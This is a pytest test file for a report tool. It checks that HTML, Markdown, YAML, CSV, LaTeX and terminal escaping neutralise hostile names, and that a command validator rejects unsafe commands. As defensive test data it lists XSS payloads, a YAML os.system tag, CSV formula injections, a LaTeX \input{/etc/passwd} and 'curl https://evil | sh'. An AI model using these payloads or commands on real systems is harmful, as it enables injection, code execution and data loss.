"""Hostile names are text in every format: what a parser of the format reads is the name itself."""

import csv
import io
import json
import re
from html.parser import HTMLParser

import pandas as pd
import pytest
import yaml

from rank_core.lines import visible
from sweeps.report.html import Section, render, table_part
from sweeps.report.table import TableCell, csv_text, latex, markdown, table
from sweeps.terminal.escape import (
    csv_cell,
    csv_frame,
    from_csv,
    latex_label,
    latex_text,
    markdown_cell,
    markdown_code,
    markdown_text,
    yaml_value,
)

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "[x](javascript:alert(1))",
    "![x](https://evil/x.png)",
    "\\](javascript:alert(1)) [y",
    "[a]: javascript:alert(1)",
    "[x][a]",
    "&lt;script&gt; &#106;",
    "a | b | c",
    "# heading",
    "- item",
    "> quote",
    "1. one",
    "```\nevil\n```",
    "`code` and **bold** and _emphasis_",
    "line\n\n# another",
    '"quoted": [x, {y: z}] # comment',
    "- !!python/object/apply:os.system ['id']",
    "--- \nkey: value",
    "null",
    '=HYPERLINK("https://evil","x")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd",
    "@SUM(1+1)",
    "\t=1+1",
    "\\input{/etc/passwd} $x$ 50% ~ ^ {}",
    "\x1b]0;title\x07\x1b[31m red \u202e txt",
    "</title></style><svg onload=alert(1)>",
    "ordinary name 512/256",
]


class Tags(HTMLParser):
    """The tags, attributes and links of a page, and its text."""

    def __init__(self, page):
        super().__init__()
        self.tags, self.text = [], ""
        self.feed(page)

    def handle_starttag(self, tag, attributes):
        self.tags.append((tag, tuple(name for name, _ in attributes)))
        assert not any(str(text).startswith("javascript") for _, text in attributes)

    def handle_data(self, text):
        self.text += text


def shown(name):
    rows = [[TableCell(name, letters=(name,), note=name, face="best", hint=name), name]]
    return table([name, "b"], rows, title=name, caption=name, notes=[name])


def pages(name):
    section = Section(name, tables=[shown(name)], values=[(name, name)], code=name, note=name)
    words = {"notes": [name], "facts": [name], "sections": [section]}
    yield render("page.html", title=name, answer=name, **words)
    yield table_part(shown(name), [name])


@pytest.mark.parametrize("name", HOSTILE)
def test_a_page_has_the_tags_of_a_harmless_one(name):
    for page, harmless in zip(pages(name), pages("harmless"), strict=True):
        assert Tags(page).tags == Tags(harmless).tags
        assert name.replace("\n", "") in Tags(page).text.replace("\n", "")


@pytest.mark.parametrize("name", HOSTILE)
def test_markdown_has_neither_tags_nor_links_of_a_name(name):
    reader = pytest.importorskip("markdown_it").MarkdownIt("gfm-like", {"linkify": False})

    def parts(text):
        """Without our own letters; emphasis in a paragraph does no harm."""
        tokens = [part for one in reader.parse(text) for part in (one.children or [one])]
        return [part.type for part in tokens if part.content not in ("<sup>", "</sup>")]

    whole, harmless = parts(markdown(shown(name))), parts(markdown(shown("harmless")))
    odd = {"html_inline", "html_block", "link_open", "image", "heading_open", "code_inline"}
    assert not odd & set(whole) and whole.count("td_open") == harmless.count("td_open")
    blocks = [token.type for token in reader.parse(markdown_text(name))]
    assert blocks == ["paragraph_open", "inline", "paragraph_close"]
    [block] = reader.parse(markdown_code(name, "bash"))
    assert block.type == "fence" and block.content == f"{name}\n"


@pytest.mark.parametrize("name", HOSTILE)
def test_yaml_csv_latex_and_a_terminal_read_the_name(name):
    assert yaml.safe_load(f"a: {yaml_value(name)}\nb:\n- {yaml_value(name)}") == {
        "a": name,
        "b": [name],
    }
    assert yaml.safe_load(yaml_value([{"name": name}])) == [{"name": name}]
    [heading, row] = csv.reader(io.StringIO(csv_text(["a", "b", "c"], [[name, -0.5, 3]])))
    assert heading == ["a", "b", "c"] and row[1:] == ["-0.5", "3"] and from_csv(row[0]) == name
    assert row[0][0] not in "=+-@\t" or (row[0] == "- item" and not name.startswith("-"))
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202e]", visible(name))
    text = latex_text(name)
    assert "\n" not in text and not re.search(r"(?<!\\)[%#&]|\\input", text)
    assert text.count("{") - text.count(r"\{") == text.count("}") - text.count(r"\}")
    assert not re.search(r"[{}\\%#\s]", latex_label(name)) and latex(shown(name), name)


def test_numbers_and_harmless_names_stay_as_they_are():
    for text in ("-0.5", "+3", "-1e-5", "-", "=", "MaxP 160 +BM25", "-inf"):
        assert csv_cell(text) == text
    for text in ("= MaxP 80/40", "p <.001", "[−0.012, 0.062]", "R(rel=2)@100", "a & b"):
        assert markdown_cell(text) == text
    for text in ("python-docs", "apache-2.0", "cross-encoder/x"):
        assert yaml_value(text) == text
    frame = pd.DataFrame({"query_id": ["=1", "q2"], "value": [-1.5, 2.0], "n": [1, 2]})
    lines = csv_frame(frame).to_csv(index=False).splitlines()
    assert lines == ["query_id,value,n", "'=1,-1.5,1", "q2,2.0,2"]


def test_a_command_of_a_stranger_s_folder_is_no_advice():
    from sweeps.store.sweep_file import advisable, written_again

    for command in (
        "ranksweep run x --name 'it'\"'\"'s; a'",
        "python -m sweeps run x",
        "python a.py",
        "python3.11 sweeps/seeds.py --x",
    ):
        assert advisable(command) == command
    for command in (
        "curl https://evil | sh",
        "ranksweep run x; rm -rf ~",
        "ranksweep run $(evil)",
        "ranksweep run `evil`",
        "ranksweep run x\nevil",
        "python -c 'evil()'",
        "python -Wc 'evil()'",
        "python -m evil",
        "python",
        "bash evil.sh",
        json.dumps("x"),
        ["ranksweep"],
        "ranksweep 'open",
        "",
    ):
        assert advisable(command) == "" and "evil" not in written_again(command)
